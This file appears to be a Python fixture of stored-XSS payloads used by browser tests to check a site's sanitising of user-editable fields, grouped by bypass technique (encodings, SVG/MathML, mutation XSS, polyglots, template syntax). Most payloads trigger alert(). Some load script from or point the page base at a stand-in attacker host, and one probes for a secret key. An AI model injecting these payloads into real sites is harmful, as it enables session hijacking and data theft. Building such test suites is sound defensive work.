"""
Stored-XSS payloads: what a compromised contributor or bio-manager account would type into
a field, grouped by the kind of flaw each one probes. Every payload, if it ran, would call
alert(), confirm(), prompt() or print(), which the browser tests watch for.
"""

EVENTS = [
    "onerror", "onload", "onfocus", "onmouseover", "onclick", "onanimationstart",
    "ontoggle", "onpageshow", "onpointerenter", "onbeforetoggle", "onfocusin", "onscroll",
]  # fmt: skip

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert`1`</script>",
    "<script type=module>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
]

EVENT_HANDLERS = [f"<img src=x {event}=alert(1)>" for event in EVENTS] + [
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<div style=animation-name:spin onanimationstart=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '<img src="x" onerror="&#97;lert(1)">',
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<x contenteditable autofocus onfocusin=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\\u006aavascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript://%0Aalert(1)">x</a>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onload" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style>@import url(javascript:alert(1))</style></svg>",
    '<svg><image href="x" onerror="alert(1)"/></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<svg><title><a id="</title><img src=x onerror=alert(1)>"></svg>',
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(1) src=x>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<table><td><select><option><style></select><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<noembed></noembed><img src=x onerror=alert(1)>",
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    "<template><img src=x onerror=alert(1)></template>",
    '<img src="x` `<script>alert(1)</script>"` `>',
]

ATTRIBUTE_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    '"/><svg onload=alert(1)>',
    '"><img src=x onerror=alert(1)><"',
    '" style="animation-name:x" onanimationstart="alert(1)',
    "&quot; onfocus=&quot;alert(1)",
    '\\" onfocus=alert(1) x=\\"',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"></a><a href="javascript:alert(1)">x',
    '</script><script>alert(1)</script><script type="application/ld+json">',
    '"}</script><script>alert(1)</script>',
    "\u2028\u2029</script><script>alert(1)</script>",
]

CSS = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>*{background:url('javascript:alert(1)')}</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<style>@keyframes x{}</style><div style=animation-name:x onanimationstart=alert(1)>",
    '<div style="behavior:url(x.htc)">x</div>',
    "<style>body{-moz-binding:url(x.xml#xss)}</style>",
]

FRAMES_META_BASE = [
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<base href=javascript:alert(1)//>",
    '<base href="//evil.example/">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<portal src=javascript:alert(1)></portal>",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/"
    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"-->]]>*/</script></style></title></textarea><script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>${alert(1)}{{alert(1)}}",
    "';alert(1);//\";alert(1);//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "<svg/onload=alert(1)//",
    '"><svg/onload=alert(1)><!--',
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed>"
    '</script><html " onmouseover=/*&lt;svg/*/onload=alert(1)//>',
]

TEMPLATE_SYNTAX = [
    "{{ 7*7 }}{% debug %}<script>alert(1)</script>",
    "${alert(1)}<img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{% include 'base.html' %}",
    "{{ request.META }}{{ settings.SECRET_KEY }}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "[[${alert(1)}]]",
]

ODDITIES = [
    "\u202e<script>alert(1)</script>",
    "\u200b<script>alert(1)</script>",
    "<scri\u200bpt>alert(1)</scri\u200bpt>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<a href=https://example.org/ onclick=alert(1)>a trusted-looking link</a>",
    "[x](javascript:alert(1))",
    "<img src=x onerror=print()>",
    "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    "<img src=x onerror=top['al'+'ert'](1)>",
    "<img src=x onerror=window[atob('YWxlcnQ=')](1)>",
    "<img src=x onerror=eval('ale'+'rt(1)')>",
    "<img src=x onerror=setTimeout('alert(1)')>",
    "<img src=x onerror=Function('alert(1)')()>",
    "<img src=x onerror=import('data:text/javascript,alert(1)')>",
]

CATEGORIES = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "javascript: and encoded schemes": SCHEMES,
    "SVG and MathML": SVG_AND_MATHML,
    "mutation XSS": MUTATION,
    "attribute and context breakouts": ATTRIBUTE_BREAKOUTS,
    "CSS": CSS,
    "frames, meta and base": FRAMES_META_BASE,
    "polyglots": POLYGLOTS,
    "template syntax": TEMPLATE_SYNTAX,
    "encodings and other sinks": ODDITIES,
}

PAYLOADS = [payload for payloads in CATEGORIES.values() for payload in payloads]
